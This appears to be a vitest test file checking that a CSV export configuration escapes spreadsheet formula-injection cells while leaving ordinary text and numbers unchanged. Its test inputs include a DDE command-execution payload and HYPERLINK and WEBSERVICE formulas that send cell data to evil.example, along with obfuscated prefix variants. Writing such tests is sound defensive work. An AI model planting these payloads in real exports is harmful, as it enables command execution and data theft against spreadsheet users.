import Papa from 'papaparse';
import { expect, test } from 'vitest';
import { CSV_TERMS } from './csv-terms.ts';

const written = (cell: string | number | null): unknown =>
  Papa.parse<string[]>(Papa.unparse([[cell, 'end']], CSV_TERMS)).data[0]?.[0];

test.each([
  '=1+1',
  '=cmd|" /C calc"!A0',
  '=HYPERLINK("https://evil.example?x="&A1,"ok")',
  '=WEBSERVICE("https://evil.example")\nsecond line',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '  =1',
  '\u00A0=1',
  '\uFEFF=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '\tplain',
])('%j is text', (cell) => expect(written(cell)).toBe(`'${cell}`));

test.each(['Planner', 'a=b', '1 + 1', 'x@example.org', '−5 %', '– none', '"=1', "'=1", ''])(
  '%j stays as it is',
  (cell) => expect(written(cell)).toBe(cell),
);

test.each([-5, -0.5, 0, 1e21])('the number %d stays a number', (cell) =>
  expect(Papa.unparse([[cell]], CSV_TERMS)).toBe(String(cell)),
);

test('columns are held to it too, and quotes end no cell', () => {
  expect(Papa.unparse({ fields: ['=1', 'a"b'], data: [['x","=2', 3]] }, CSV_TERMS)).toBe(
    `"'=1","a""b"\r\n"x"",""=2",3`,
  );
});
